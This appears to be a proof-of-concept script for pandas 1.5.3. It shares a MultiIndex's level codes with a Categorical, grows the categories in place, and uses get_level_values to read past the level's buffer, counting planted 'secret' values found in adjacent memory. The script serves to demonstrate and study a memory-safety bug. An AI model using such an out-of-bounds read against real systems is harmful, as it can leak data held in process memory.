# source: pandas 1.5.3 pandas/core/arrays/_mixins.py NDArrayBackedExtensionArray (MultiIndex.from_arrays([cat,..]) via factorize_from_iterable keeps values.codes (categorical.py:2975), _coerce_indexer_frozen does not copy int codes; set_levels shares _codes shares _ndarray codes without copying) + categorical.py add_categories(inplace=True)/set_categories(rename=True) keep the same codes array; take_nd/__array__ trust codes < len(categories)
# family: MultiIndex codes shared with a Categorical, categories grown in place -> get_level_values take_nd out-of-bounds read
# goal: mi.get_level_values(0) reads past the level's 130-word buffer, finds another array's contents
import numpy as np
import pandas as pd

n0 = 130
span = 30000
cat = pd.Categorical([0] * span, categories=list(range(n0)))
mi = pd.MultiIndex.from_arrays([cat, list(range(span))], names=["a", "b"])
mi = mi.set_levels(pd.Index(list(range(n0))), level=0)
secrets = [np.full(64, 0x5EC12E7C0FFEE) for _ in range(300)]
cat.add_categories(list(range(n0, n0 + span)), inplace=True)
cat[:] = list(range(n0, n0 + span))
leak = mi.get_level_values(0)
hits = sum(1 for w in leak if w == 0x5EC12E7C0FFEE)
print("level 0 has", len(mi.levels[0]), "values; codes reach", mi.codes[0].max())
print("words read past the level's buffer:", list(leak[:4]), "... words of another array found:", hits)
